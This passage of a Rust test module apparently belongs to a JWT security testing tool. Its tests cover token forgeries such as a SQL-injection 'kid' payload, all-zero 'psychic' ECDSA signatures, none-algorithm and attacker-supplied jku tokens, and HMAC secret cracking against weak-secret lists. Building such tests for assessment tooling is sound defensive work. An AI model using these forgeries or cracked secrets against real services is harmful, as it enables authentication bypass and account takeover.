        assert_eq!(h["kid"], "x' UNION SELECT 'authprobe'-- ");
        assert_eq!(h["alg"], "HS256");
        assert!(verifies(
            &forged[0].token,
            &DecodingKey::from_secret(b"authprobe")
        ));
    }

    #[test]
    fn psychic_signature_is_all_zero_r_and_s_of_the_curve_length() {
        let (svc, _, forged) = forge_all(ForgeryKind::PsychicSignature);
        assert_eq!(forged.len(), 1);
        let sig = unb64(segments(&forged[0].token)[2]).unwrap();
        assert_eq!(sig, vec![0u8; 64]);
        assert_eq!(header(&forged[0].token)["alg"], "ES256");
        assert!(!verifies(
            &forged[0].token,
            &DecodingKey::from_ec_der(&svc.jwks[0].key.to_spki_der())
        ));

        let attacker = AttackerKey::generate().unwrap();
        let ctx = ForgeContext {
            public_keys: &[],
            other_token: None,
            attacker_jwks_url: None,
            attacker: &attacker,
        };
        let hs = jsonwebtoken::encode(
            &Header::default(),
            &json!({"sub": "a"}),
            &EncodingKey::from_secret(b"k"),
        )
        .unwrap();
        let forged = forge(ForgeryKind::PsychicSignature, &hs, &ctx).unwrap();
        let shapes: Vec<_> = forged
            .iter()
            .map(|f| {
                (
                    header(&f.token)["alg"].as_str().unwrap().to_owned(),
                    unb64(segments(&f.token)[2]).unwrap(),
                )
            })
            .collect();
        assert_eq!(
            shapes,
            [
                ("ES256".into(), vec![0u8; 64]),
                ("ES384".into(), vec![0u8; 96]),
                ("ES512".into(), vec![0u8; 132])
            ]
        );
    }

    #[test]
    fn every_forgery_differs_from_the_original_and_counts_are_as_documented() {
        let svc = service();
        let attacker = AttackerKey::generate().unwrap();
        let u = url();
        let ctx = ForgeContext {
            public_keys: &svc.jwks,
            other_token: Some(&svc.other),
            attacker_jwks_url: Some(&u),
            attacker: &attacker,
        };
        let counts: Vec<usize> = ForgeryKind::ALL
            .iter()
            .map(|k| {
                let forged = forge(*k, &svc.token, &ctx).unwrap();
                assert!(forged.iter().all(|f| f.token != svc.token), "{k:?}");
                forged.len()
            })
            .collect();
        assert_eq!(counts, [8, 1, 1, 2, 1, 2, 1, 6, 1, 1, 1, 3, 1, 1]);
        // A foreign token with the very same signature yields nothing rather than the original.
        let same = ForgeContext {
            other_token: Some(&svc.token),
            ..ctx
        };
        assert!(
            forge(ForgeryKind::ForeignSignature, &svc.token, &same)
                .unwrap()
                .is_empty()
        );
    }

    #[test]
    fn hostile_originals_are_typed_errors_not_panics() {
        let attacker = AttackerKey::generate().unwrap();
        let ctx = ForgeContext {
            public_keys: &[],
            other_token: None,
            attacker_jwks_url: None,
            attacker: &attacker,
        };
        let cases: [(&str, ForgeErrorKind); 5] = [
            ("", ForgeErrorKind::NotThreeSegments),
            ("a.b", ForgeErrorKind::NotThreeSegments),
            ("a.b.c.d.e", ForgeErrorKind::NotThreeSegments),
            (
                "!!.e30.",
                ForgeErrorKind::InvalidBase64 { segment: "header" },
            ),
            (
                "W10.e30.",
                ForgeErrorKind::NotAJsonObject { segment: "header" },
            ),
        ];
        for (token, kind) in &cases {
            for k in ForgeryKind::ALL {
                assert_eq!(
                    &forge(k, token, &ctx).unwrap_err().kind,
                    kind,
                    "{token:?} {k:?}"
                );
            }
        }
        // "{}" is an object: every kind copes with an empty header.
        let empty_header = "e30.e30.";
        for k in ForgeryKind::ALL {
            forge(k, empty_header, &ctx).unwrap();
        }
        assert_eq!(
            forge(ForgeryKind::TruncatedSignature, "e30.e30.!!", &ctx)
                .unwrap_err()
                .kind,
            ForgeErrorKind::InvalidBase64 {
                segment: "signature"
            }
        );
        assert_eq!(
            forge(ForgeryKind::ModifiedPayload, "e30.bm9wZQ.", &ctx)
                .unwrap_err()
                .kind,
            ForgeErrorKind::NotAJsonObject { segment: "payload" }
        );
        assert_eq!(crack_hmac("garbage", ["secret"]), None);
    }

    #[test]
    fn modify_claims_keeps_header_signature_and_claim_order() {
        let token = "eyJhbGciOiJIUzI1NiJ9.eyJ6IjoxLCJhIjoyfQ.c2ln"; // {"z":1,"a":2}
        let t = modify_claims(token, |m| {
            m.insert("a".into(), json!(3));
            m.insert("new".into(), json!(true));
        })
        .unwrap();
        assert_eq!(segments(&t)[0], "eyJhbGciOiJIUzI1NiJ9");
        assert_eq!(segments(&t)[2], "c2ln");
        assert_eq!(
            unb64(segments(&t)[1]).unwrap(),
            br#"{"z":1,"a":3,"new":true}"#
        );
    }

    #[test]
    fn resign_produces_tokens_jsonwebtoken_accepts() {
        let key = AttackerKey::generate().unwrap();
        let mut header = serde_json::Map::new();
        header.insert("kid".into(), json!("k1"));
        let mut claims = serde_json::Map::new();
        claims.insert("sub".into(), json!("admin"));
        claims.insert("exp".into(), json!(4_000_000_000u64));
        let signing = SigningKey::EcPkcs8Der(key.pkcs8_der().to_vec());
        let t = resign(&header, &claims, &signing).unwrap();
        let dk = DecodingKey::from_ec_der(&key.public_jwk().key.to_spki_der());
        let data =
            jsonwebtoken::decode::<Value>(&t, &dk, &Validation::new(Algorithm::ES256)).unwrap();
        assert_eq!(data.claims["sub"], "admin");
        assert_eq!(data.header.kid.as_deref(), Some("k1"));

        // RSA, PS256 named in the header.
        let pair = aws_lc_rs::rsa::KeyPair::generate(aws_lc_rs::rsa::KeySize::Rsa2048).unwrap();
        let pkcs8 =
            aws_lc_rs::encoding::AsDer::<aws_lc_rs::encoding::Pkcs8V1Der>::as_der(&pair).unwrap();
        let rsa = SigningKey::from_pem(&pem("PRIVATE KEY", pkcs8.as_ref())).unwrap();
        assert_eq!(rsa.alg().unwrap(), "RS256");
        header.insert("alg".into(), json!("PS256"));
        let t = resign(&header, &claims, &rsa).unwrap();
        let public = PublicKey::Rsa {
            n: pair
                .public_key()
                .modulus()
                .big_endian_without_leading_zero()
                .to_vec(),
            e: pair
                .public_key()
                .exponent()
                .big_endian_without_leading_zero()
                .to_vec(),
        };
        let dk = DecodingKey::from_rsa_pem(&public.to_pem_variants()[0].1).unwrap();
        jsonwebtoken::decode::<Value>(&t, &dk, &Validation::new(Algorithm::PS256)).unwrap();

        // HMAC.
        header.insert("alg".into(), json!("HS384"));
        let t = resign(&header, &claims, &SigningKey::Hmac(b"k".to_vec())).unwrap();
        jsonwebtoken::decode::<Value>(
            &t,
            &DecodingKey::from_secret(b"k"),
            &Validation::new(Algorithm::HS384),
        )
        .unwrap();

        // A key that cannot sign the header's alg is a typed error.
        let err = resign(&header, &claims, &signing).unwrap_err();
        assert_eq!(
            err.kind,
            ForgeErrorKind::KeyAlgorithmMismatch {
                alg: "HS384".into()
            }
        );
    }

    #[test]
    fn crack_hmac_finds_weak_secrets_only() {
        let claims = json!({"sub": "a"});
        let weak = jsonwebtoken::encode(
            &Header::default(),
            &claims,
            &EncodingKey::from_secret(b"secret"),
        )
        .unwrap();
        assert_eq!(crack_hmac(&weak, weak_secrets()), Some(b"secret".to_vec()));
        let h512 = Header::new(Algorithm::HS512);
        let weak512 = jsonwebtoken::encode(
            &h512,
            &claims,
            &EncodingKey::from_secret(b"your-256-bit-secret"),
        )
        .unwrap();
        assert_eq!(
            crack_hmac(&weak512, weak_secrets()),
            Some(b"your-256-bit-secret".to_vec())
        );

        let mut random = [0u8; 32];
        aws_lc_rs::rand::fill(&mut random).unwrap();
        let strong = jsonwebtoken::encode(
            &Header::default(),
            &claims,
            &EncodingKey::from_secret(&random),
        )
        .unwrap();
        assert_eq!(crack_hmac(&strong, weak_secrets()), None);

        let svc = service();
        assert_eq!(crack_hmac(&svc.token, weak_secrets()), None);
    }

    #[test]
    fn empty_and_two_character_secrets_are_cracked() {
        let claims = json!({"sub": "a"});
        for secret in [&b""[..], b"k", b"Z9", b"~ "] {
            let token = jsonwebtoken::encode(
                &Header::default(),
                &claims,
                &EncodingKey::from_secret(secret),
            )
            .unwrap();
            assert_eq!(
                crack_hmac(&token, guessable_secrets()),
                Some(secret.to_vec()),
                "{secret:?}"
            );
        }
        assert_eq!(guessable_secrets().count(), guessable_secret_count());
    }

    #[test]
    fn weak_secrets_has_the_classics_and_no_duplicates() {
        let all: Vec<_> = weak_secrets().collect();
        assert!(all.contains(&"secret"));
        assert!(all.contains(&"your-256-bit-secret"));
        assert!(all.len() >= 200);
        let unique: std::collections::HashSet<_> = all.iter().collect();
        assert_eq!(unique.len(), all.len());
    }

    #[test]
    fn forgery_kinds_serialise_in_snake_case() {
        assert_eq!(
            serde_json::to_value(ForgeryKind::AttackerProvidedJku).unwrap(),
            "attacker_provided_jku"
        );
        assert_eq!(
            serde_json::to_value(ForgeryKind::NoneAlgorithm).unwrap(),
            "none_algorithm"
        );
    }
}
